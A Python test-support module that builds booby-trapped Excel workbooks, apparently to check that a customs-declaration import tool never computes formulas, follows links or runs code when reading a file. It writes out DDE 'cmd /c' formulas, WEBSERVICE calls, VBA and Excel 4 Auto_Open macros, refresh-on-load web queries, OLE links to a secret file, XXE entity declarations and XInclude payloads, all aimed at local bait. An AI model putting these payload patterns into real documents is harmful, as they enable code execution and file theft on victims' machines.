"""Files that want something to be computed, fetched, opened or run when they are read."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from tests.support.mutations.workbooks import packed, unpacked
from tests.support.spreadsheets import IMPORT_PRINT, changed, workbook

_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_BOOK_LINKS = "xl/_rels/workbook.xml.rels"
_SHEET = "xl/worksheets/sheet1.xml"
_SHEET_LINKS = "xl/worksheets/_rels/sheet1.xml.rels"
_STRINGS = "xl/sharedStrings.xml"
_NAME = b"C\xc3\xb4ng ty TNHH Minh H\xe1\xbb\x8da"


@dataclass(frozen=True, slots=True)
class Bait:
    """What a file that is obeyed would touch."""

    address: str
    """Of a server on this computer that must not be asked."""
    secret: Path
    """A file that must not be read."""
    marker: Path
    """A file that must not be made."""

    @property
    def secret_url(self) -> str:
        return self.secret.as_uri()


def print_with(folder: Path, parts: Mapping[str, bytes], *, name: str = "print.xlsx") -> Path:
    """Write a cleared import's print with other parts in place of its own, or beside them."""
    path = workbook(folder / name, {"TKN": IMPORT_PRINT})
    path.write_bytes(packed({**unpacked(path.read_bytes()), **parts}))
    return path


def _plain_parts(folder: Path) -> dict[str, bytes]:
    return dict(unpacked(workbook(folder / "plain.xlsx", {"TKN": IMPORT_PRINT}).read_bytes()))


def with_formulas(folder: Path, bait: Bait) -> Path:
    """The enterprise's name is computed, and saved; others are computed and were never saved."""
    import xlsxwriter  # type: ignore[import-untyped]

    path = folder / "formulas.xlsx"
    cells = changed(IMPORT_PRINT, H11=None, H10=None, AE7=None)
    with xlsxwriter.Workbook(str(path)) as book:
        page = book.add_worksheet("TKN")
        for cell, value in cells.items():
            page.write(cell, value)
        page.write_formula("H11", '="No" & "body"', None, "As it was saved")
        page.write_formula("H10", '="0200"&"999001"', None, "")
        page.write_formula("AE7", f'=WEBSERVICE("{bait.address}/team")', None, "")
        page.write_formula("AF7", f"=cmd|'/c echo > {bait.marker}'!A1", None, "")
        page.write_formula("AG7", f"='{bait.secret}'!A1", None, "")
        page.write_formula("AH7", f'=HYPERLINK("{bait.address}/link","x")', None, "")
    return path


def with_links(folder: Path, bait: Bait) -> Path:
    """Another workbook, a DDE topic, a picture, an object, a query and a link, all elsewhere."""
    parts = _plain_parts(folder)
    away = f'TargetMode="External" Target="{bait.address}'
    kinds = {
        "rId90": ("externalLink", 'Target="externalLinks/externalLink1.xml"'),
        "rId91": ("externalLink", 'Target="externalLinks/externalLink2.xml"'),
        "rId92": ("connections", 'Target="connections.xml"'),
        "rId93": ("attachedTemplate", f'{away}/template.xltm"'),
        "rId94": ("theme", f'{away}/theme.xml"'),
    }
    links = _links(kinds)
    parts[_BOOK_LINKS] = parts[_BOOK_LINKS].replace(
        b"</Relationships>", links + b"</Relationships>"
    )
    references = b'<externalReferences><externalReference r:id="rId90"/>'
    references += b'<externalReference r:id="rId91"/></externalReferences>'
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", b"</sheets>" + references
    )
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{_MAIN}"><externalBook xmlns:r="{_RELATIONS}" r:id="rId1"/>'
        "</externalLink>"
    ).encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = _all_links(
        {"rId1": ("externalLinkPath", f'{away}/other.xlsx"')}
    )
    parts["xl/externalLinks/externalLink2.xml"] = (
        f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="cmd" '
        f'ddeTopic="/c echo &gt; {bait.marker}"><ddeItems><ddeItem name="A1" advise="1"/>'
        "</ddeItems></ddeLink></externalLink>"
    ).encode()
    parts["xl/connections.xml"] = (
        f'<connections xmlns="{_MAIN}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
        f'<webPr url="{bait.address}/query"/></connection></connections>'
    ).encode()
    parts[_SHEET_LINKS] = _all_links(
        {
            "rId1": ("hyperlink", f'{away}/hyperlink"'),
            "rId2": ("image", f'{away}/picture.png"'),
            "rId3": ("oleObject", f'TargetMode="External" Target="{bait.secret_url}"'),
            "rId4": ("vmlDrawing", f'{away}/drawing.vml"'),
        }
    )
    objects = b'<hyperlinks><hyperlink ref="H11" r:id="rId1"/></hyperlinks><picture r:id="rId2"/>'
    objects += b'<legacyDrawing r:id="rId4"/><oleObjects><oleObject progId="Package" dvAspect='
    objects += (
        b'"DVASPECT_ICON" link="rId3" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1"/></oleObjects>'
    )
    parts[_SHEET] = parts[_SHEET].replace(b"</worksheet>", objects + b"</worksheet>")
    return print_with(folder, parts, name="links.xlsx")


def with_macros(folder: Path, bait: Bait) -> Path:
    """A project that starts when the workbook is opened, and an embedded program."""
    parts = _plain_parts(folder)
    project = f'Sub Auto_Open()\nShell "cmd /c echo > {bait.marker}"\nEnd Sub\n'.encode()
    parts["xl/vbaProject.bin"] = bytes.fromhex("D0CF11E0A1B11AE1") + project * 100
    parts["xl/embeddings/oleObject1.bin"] = b"MZ" + project
    _link_book(parts, "vbaProject", "vbaProject.bin")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"
    )
    return print_with(folder, parts, name="macros.xlsx")


def with_macro_sheet(folder: Path, bait: Bait) -> Path:
    """A sheet of Excel 4 macros, the first of which starts when the workbook is opened."""
    parts = _plain_parts(folder)
    parts["xl/macrosheets/sheet1.xml"] = (
        f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        f'xmlns="{_MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c echo &gt; '
        f'{bait.marker}")</f></c></row></sheetData></xm:macrosheet>'
    ).encode()
    _link_book(parts, "xlMacrosheet", "macrosheets/sheet1.xml")
    names = b'<definedNames><definedName name="_xlnm.Auto_Open" xlm="1">M!$A$1</definedName>'
    parts["xl/workbook.xml"] = (
        parts["xl/workbook.xml"]
        .replace(b"</sheets>", b'<sheet name="M" sheetId="9" r:id="rId90"/></sheets>' + names)
        .replace(b"<calcPr", b"</definedNames><calcPr")
    )
    return print_with(folder, parts, name="macro sheet.xlsx")


def _link_book(parts: dict[str, bytes], kind: str, target: str) -> None:
    """Link the workbook with one of Microsoft's own kinds of parts."""
    link = (
        '<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/'
        f'{kind}" Target="{target}"/></Relationships>'
    ).encode()
    parts[_BOOK_LINKS] = parts[_BOOK_LINKS].replace(b"</Relationships>", link)


def with_entities_in(part: str, folder: Path, bait: Bait) -> Path:
    """A part that puts another file's content into the enterprise's name."""
    parts = _plain_parts(folder)
    defined = (
        f'<!DOCTYPE x SYSTEM "{bait.address}/x.dtd" [<!ENTITY % p SYSTEM "{bait.address}/p.ent"> '
        f'%p; <!ENTITY e SYSTEM "{bait.secret_url}"><!ENTITY h SYSTEM "{bait.address}/h">]>'
    ).encode()
    declared, end, rest = parts[part].partition(b"?>")
    parts[part] = declared + end + defined + rest.replace(_NAME, b"&e;&h;")
    return print_with(folder, parts, name="entities.xlsx")


def with_inclusions(folder: Path, bait: Bait) -> Path:
    """Strings that include a file and an address."""
    parts = _plain_parts(folder)
    included = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'.format
    )
    new = (included(bait.secret_url) + included(f"{bait.address}/included")).encode()
    parts[_STRINGS] = parts[_STRINGS].replace(_NAME, _NAME + new)
    return print_with(folder, parts, name="inclusions.xlsx")


def _links(kinds: Mapping[str, tuple[str, str]]) -> bytes:
    return "".join(
        f'<Relationship Id="{key}" Type="{_RELATIONS}/{kind}" {target}/>'
        for key, (kind, target) in kinds.items()
    ).encode()


def _all_links(kinds: Mapping[str, tuple[str, str]]) -> bytes:
    package = b"http://schemas.openxmlformats.org/package/2006/relationships"
    return b'<Relationships xmlns="' + package + b'">' + _links(kinds) + b"</Relationships>"
